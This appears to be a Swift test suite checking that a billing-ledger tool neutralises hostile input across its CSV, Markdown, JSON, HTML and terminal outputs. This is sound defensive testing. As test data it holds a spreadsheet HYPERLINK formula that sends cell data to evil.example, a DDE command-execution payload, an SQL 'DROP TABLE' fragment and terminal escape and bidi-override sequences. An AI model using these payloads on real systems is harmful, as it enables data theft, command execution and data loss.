import Foundation
import Testing

/// Org ids, prompts, request ids and idempotency keys crafted as spreadsheet
/// formulas, Markdown table breakers and SQL fragments come out inert: CSV
/// cells are prefixed with `'`, Markdown tables keep their column count, and
/// the SQL is only ever data.
struct InjectionTests {
    static let hostileOrgs = [
        #"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "+1", "-2", "@SUM(A1:A9)",
        "org|pipe|inj", "org\ninj newline", "'; DROP TABLE response_records; --", "\tinj tab", "\rinj cr",
        #"org_inj **bold** <b>x</b> `code` \| escaped"#,
        // One grapheme, but the first code point is a formula leader (issue 11, item 12).
        "=\u{301}1+1", "=\u{200D}SUM(A1)", "=\u{FE0F}cmd", "=\u{20DD}x", "+\u{301}1", "@\u{301}x", "\r\ninj crlf",
    ]
    static let hostilePrompt = "=cmd|' /C calc'!A0 | pipe\nnewline"

    /// A billed generation and a 402 event per hostile org, with hostile prompt, keys and request ids.
    static func input() throws -> String {
        func json(_ value: String) throws -> String { String(decoding: try JSONEncoder().encode(value), as: UTF8.self) }
        return try hostileOrgs.enumerated().flatMap { index, org in [
            #"{"timestamp":"2026-10-05T09:00:\#(String(format: "%02d", index))Z","orgId":\#(try json(org)),"endpoint":"/v1/generate-image","httpStatus":200,"request":{"prompt":\#(try json(hostilePrompt))},"response":{"success":true,"generationId":"gen_inj_\#(index)"}}"#,
            #"{"timestamp":"2026-10-05T10:00:\#(String(format: "%02d", index))Z","orgId":\#(try json(org)),"endpoint":"/v2/cinematic-image","httpStatus":402,"idempotencyKey":"=1+2|k\#(index)","response":{"success":false,"code":"insufficient_balance","requestId":"@req|\#(index)"}}"#,
        ] }.joined(separator: "\n") + "\n"
    }

    /// How a hostile value must appear in a CSV cell.
    static func inert(_ value: String) -> String { OutputShapes.isFormula(value) ? "'" + value : value }

    @Test func hostileValuesAreInertInEveryReportFile() throws {
        let scratch = try Scratch("injection")
        let ledger = scratch.path("ledger.sqlite")
        let ingest = try LedgerBinary.run(["ingest", "--db", ledger, try scratch.write("hostile.jsonl", try Self.input())])
        try #require(ingest.status == 0, "\(ingest.stderr)")
        let pricing = try scratch.write("pricing.yaml", "currency: USD\ndefaultPlan: standard\nplans:\n  standard:\n    v1:\n      unitPrice: 0.04\n    v2:\n      unitPrice: 0.10\n")
        let report = try LedgerBinary.run(["report", "--db", ledger, "--month", "2026-10", "--pricing", pricing, "--out", scratch.path("reports")])
        try #require(report.status == 0, "\(report.stderr)")
        let folder = scratch.path("reports/2026-10")

        for (file, orgColumn) in [("usage.csv", 1), ("invoice_lines.csv", 1), ("flags_402.csv", 1)] {
            let records = OutputShapes.csvRecords(try String(contentsOfFile: "\(folder)/\(file)", encoding: .utf8))
            let header = try #require(records.first)
            #expect(records.dropFirst().allSatisfy { $0.count == header.count }, "\(file): a row changed its column count")
            #expect(records.flatMap { $0 }.filter(OutputShapes.isFormula).isEmpty, "\(file): a cell would be evaluated")
            let orgs = Set(records.dropFirst().map { $0[orgColumn] })
            #expect(orgs.isSuperset(of: Self.hostileOrgs.map(Self.inert)), "\(file): org ids \(orgs)")
        }
        let flags = OutputShapes.csvRecords(try String(contentsOfFile: "\(folder)/flags_402.csv", encoding: .utf8))
        #expect(flags.dropFirst().allSatisfy { $0[4].hasPrefix("'@req|") && $0[5].hasPrefix("'=1+2|k") }, "request ids and keys are inert")

        let markdown = try String(contentsOfFile: "\(folder)/report.md", encoding: .utf8)
        expectTablesKeepTheirShape(markdown, "report.md")
        #expect(!markdown.contains("\norg|pipe"), "no hostile value starts a line")
        #expect(!markdown.contains("\ninj newline"), "a line break inside a value does not break the report")

        // report.json holds every hostile id exactly; each org's statement is named by its percent-encoded id
        // (which decodes back to it) and its HTML shows the id as text.
        let json = try JSONSerialization.jsonObject(with: Data(contentsOf: URL(fileURLWithPath: "\(folder)/report.json"))) as? [String: Any]
        let jsonOrgs = Set(((json?["statements"] as? [[String: Any]]) ?? []).compactMap { $0["org_id"] as? String })
        #expect(jsonOrgs.isSuperset(of: Self.hostileOrgs), "report.json org ids \(jsonOrgs)")
        let statements = try FileManager.default.contentsOfDirectory(atPath: "\(folder)/statements")
        #expect(statements.count == 2 * jsonOrgs.count)
        for name in statements where name.hasSuffix(".html") {
            #expect(String(name.dropLast(".html".count)).removingPercentEncoding.map(jsonOrgs.contains) == true, "\(name) names no org")
            let html = try String(contentsOfFile: "\(folder)/statements/\(name)", encoding: .utf8)
            #expect(!html.contains("<b>") && !html.localizedCaseInsensitiveContains("<script"), "\(name) lets markup through")
        }

        let stillThere = try LedgerBinary.run(["sql", "--db", ledger, "--format", "csv", "SELECT count(*) FROM response_records"])
        #expect(stillThere.stdout.contains("\(2 * Self.hostileOrgs.count)"), "the SQL fragment was data, not SQL")
    }

    @Test(arguments: ["csv", "markdown"])
    func hostileValuesAreInertInSQLOutput(format: String) throws {
        let scratch = try Scratch("injection-sql")
        let ledger = scratch.path("ledger.sqlite")
        try #require(try LedgerBinary.run(["ingest", "--db", ledger, try scratch.write("hostile.jsonl", try Self.input())]).status == 0)
        let result = try LedgerBinary.run(["sql", "--db", ledger, "--format", format,
                                           "SELECT org_id, prompt, idempotency_key, request_id FROM response_records ORDER BY id"])
        try #require(result.status == 0, "\(result.stderr)")
        if format == "csv" {
            let records = OutputShapes.csvRecords(result.stdout)
            #expect(records.count == 1 + 2 * Self.hostileOrgs.count)
            #expect(records.allSatisfy { $0.count == 4 })
            #expect(records.flatMap { $0 }.filter(OutputShapes.isFormula).isEmpty)
            #expect(Set(records.dropFirst().map { $0[0] }) == Set(Self.hostileOrgs.map(Self.inert)))
            #expect(records.dropFirst().contains { $0[1] == Self.inert(Self.hostilePrompt) })
        } else {
            expectTablesKeepTheirShape(result.stdout, "sql --format markdown")
            let tables = OutputShapes.markdownTables(result.stdout)
            #expect(tables.count == 1)
            #expect(tables.first?.count == 2 + 2 * Self.hostileOrgs.count, "one line per row")
        }
    }

    /// Scalars that must never reach a terminal raw: C0 controls but the line
    /// feed, DEL, C1 controls (U+009B is CSI), bidirectional overrides,
    /// isolates and marks.
    static func terminalControls(in text: String) -> [String] {
        text.unicodeScalars.filter { scalar in
            let v = scalar.value
            return (v < 0x20 && v != 0x0A) || (0x7F...0x9F).contains(v) || (0x202A...0x202E).contains(v)
                || (0x2066...0x2069).contains(v) || v == 0x200E || v == 0x200F || v == 0x61C
        }.map { String(format: "U+%04X", $0.value) }
    }

    @Test func terminalControlsInValuesAndFileNamesAreEscapedInEverythingPrintedForPeople() throws {
        let scratch = try Scratch("terminal")
        let ledger = scratch.path("ledger.sqlite")
        // JSON forbids raw C0 controls in strings, so ESC is written as an escape there.
        let hostileOrg = "org\u{9B}2J\u{1B}[31m\u{202E}live\u{2066}x\u{85}"
        let orgJSON = hostileOrg.replacingOccurrences(of: "\u{1B}", with: "\\u001b")
        let lines = [
            #"{"timestamp":"2026-10-05T09:00:00Z","orgId":"\#(orgJSON)","endpoint":"/v1/generate-image","httpStatus":200,"request":{"prompt":"p\#u{9B}q"},"response":{"success":true,"generationId":"gen_term_1"}}"#,
            #"{"timestamp":"2026-10-05T09:00:01Z","orgId":"\#(orgJSON)","endpoint":"/v1/generate-image","httpStatus":200,"response":{"success":true,"generationId":"gen_term_2"}}"#,
            "{\"orgId\":\"bad \u{9B}6n \u{202E}line",
        ]
        let file = try scratch.write("logs-\u{9B}31m-\u{202E}lmth.jsonl", lines.joined(separator: "\n") + "\n")
        var printed: [(String, LedgerBinary.Result)] = []
        let ingest = try LedgerBinary.run(["ingest", "--db", ledger, file])
        try #require(ingest.status == 0, "\(ingest.stderr)")
        #expect(ingest.stdout.contains("logs-\\u{9b}31m-\\u{202e}lmth.jsonl"), "the file's name is shown, escaped: \(ingest.stdout)")
        printed.append(("ingest", ingest))
        printed.append(("ingest again", try LedgerBinary.run(["ingest", "--db", ledger, file])))
        printed.append(("ingest of a missing file", try LedgerBinary.run(["ingest", "--db", ledger, scratch.path("missing-\u{9B}2J.jsonl")])))
        for format in ["table", "markdown"] {
            let sql = try LedgerBinary.run(["sql", "--db", ledger, "--format", format, "SELECT org_id, prompt, path FROM response_records JOIN ingested_files ON ingested_files.id = file_id UNION ALL SELECT reason, raw_line, '' FROM rejected_lines"])
            #expect(sql.status == 0, "\(sql.stderr)")
            #expect(sql.stdout.contains("\\u{9b}2J"), "\(format): \(sql.stdout)")
            printed.append(("sql --format \(format)", sql))
        }
        let report = try LedgerBinary.run(["report", "--db", ledger, "--month", "2026-10", "--out", scratch.path("reports")])
        #expect(report.status == 0, "\(report.stderr)")
        printed.append(("report", report))
        printed.append(("verify", try LedgerBinary.run(["verify", "--db", ledger])))
        for (command, result) in printed {
            #expect(Self.terminalControls(in: result.stdout + result.stderr).isEmpty,
                    "\(command) printed \(Self.terminalControls(in: result.stdout + result.stderr)) raw: \(result.output)")
        }
        let markdown = try String(contentsOfFile: scratch.path("reports/2026-10/report.md"), encoding: .utf8)
        #expect(Self.terminalControls(in: markdown).isEmpty, "report.md holds \(Self.terminalControls(in: markdown)) raw")
        #expect(markdown.contains("\\u{9b}31m"), "report.md names the file, escaped")

        // Outputs for programs keep the exact values.
        let csv = try LedgerBinary.run(["sql", "--db", ledger, "--format", "csv", "SELECT DISTINCT org_id FROM response_records"])
        #expect(csv.stdout == "org_id\r\n\(hostileOrg)\r\n")
        let usage = try String(contentsOfFile: scratch.path("reports/2026-10/usage.csv"), encoding: .utf8)
        #expect(usage.contains(hostileOrg))
    }

    private func expectTablesKeepTheirShape(_ markdown: String, _ name: String) {
        let tables = OutputShapes.markdownTables(markdown)
        #expect(!tables.isEmpty)
        for table in tables {
            let columns = OutputShapes.markdownCells(table[0]).count
            for row in table {
                #expect(OutputShapes.markdownCells(row).count == columns, "\(name): \(row)")
            }
        }
    }
}
